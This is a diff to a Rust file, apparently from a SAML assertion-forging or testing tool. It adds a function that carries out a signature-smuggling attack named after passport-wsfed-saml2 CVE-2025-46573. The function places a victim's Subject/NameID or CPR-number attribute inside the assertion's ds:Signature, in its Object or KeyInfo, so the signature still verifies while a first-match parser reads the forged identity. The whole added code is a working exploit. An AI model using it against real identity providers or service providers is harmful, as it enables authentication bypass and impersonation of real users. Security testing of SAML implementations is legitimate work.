@@ -7,7 +7,9 @@
 //! comment node or a second `ds:SignedInfo`.
 
 use super::stages::StageContext;
-use super::{HmacAlg, HmacKeyEncoding, SignatureErrorKind, VoidC14nOn};
+use super::{
+    HmacAlg, HmacKeyEncoding, SignatureErrorKind, SmugglePlace, SmuggledElement, VoidC14nOn,
+};
 use crate::saml::mint::MintError;
 use crate::saml::ns;
 use crate::saml::response::{signature_template, write_assertion};
@@ -366,4 +368,54 @@ pub(crate) fn declare_after(xml: &str, tag: &str) -> String {
         }
         None => xml.to_string(),
     }
+}
+
+/// `smuggle-in-signature` (passport-wsfed-saml2 CVE-2025-46573): the victim's element (`what`) goes
+/// inside the signed assertion's own `ds:Signature`, at `place`. Nothing signed changes: the
+/// enveloped-signature transform removes the whole Signature before digesting, and SignedInfo
+/// is untouched, so the signature verifies. The smuggled element sits before the genuine
+/// Subject and AttributeStatement in document order (an OIOSAML Signature follows the Issuer),
+/// so a first-match descendant search finds it first.
+pub(crate) fn smuggle_in_signature(
+    assertion: &mut String,
+    cx: &StageContext<'_>,
+    what: SmuggledElement,
+    place: SmugglePlace,
+    victim: &Option<String>,
+) -> Result<(), MintError> {
+    let v = cx.victim(victim)?;
+    let smuggled = match what {
+        SmuggledElement::Subject => {
+            // The genuine Subject (SubjectConfirmation and all) with the victim's NameID.
+            let genuine = element(assertion, "<saml:Subject>", "</saml:Subject>")
+                .unwrap_or("<saml:Subject><saml:NameID></saml:NameID></saml:Subject>");
+            replace_name_id(genuine, &v.name_id())
+        }
+        SmuggledElement::CprAttribute => format!(
+            concat!(
+                r#"<saml:AttributeStatement><saml:Attribute Name="{name}" NameFormat="{fmt}">"#,
+                r#"<saml:AttributeValue>{cpr}</saml:AttributeValue>"#,
+                r#"</saml:Attribute></saml:AttributeStatement>"#
+            ),
+            name = escape_attr(ns::attr::CPR_NUMBER),
+            fmt = escape_attr(ns::ATTRNAME_URI),
+            cpr = escape_text(v.cpr.as_deref().unwrap_or("0000000000")),
+        ),
+    };
+    *assertion = match place {
+        SmugglePlace::Object => assertion.replacen(
+            "</ds:Signature>",
+            &format!("<ds:Object>{smuggled}</ds:Object></ds:Signature>"),
+            1,
+        ),
+        SmugglePlace::KeyInfo if assertion.contains("</ds:KeyInfo>") => {
+            assertion.replacen("</ds:KeyInfo>", &format!("{smuggled}</ds:KeyInfo>"), 1)
+        }
+        SmugglePlace::KeyInfo => assertion.replacen(
+            "</ds:Signature>",
+            &format!("<ds:KeyInfo>{smuggled}</ds:KeyInfo></ds:Signature>"),
+            1,
+        ),
+    };
+    Ok(())
 }
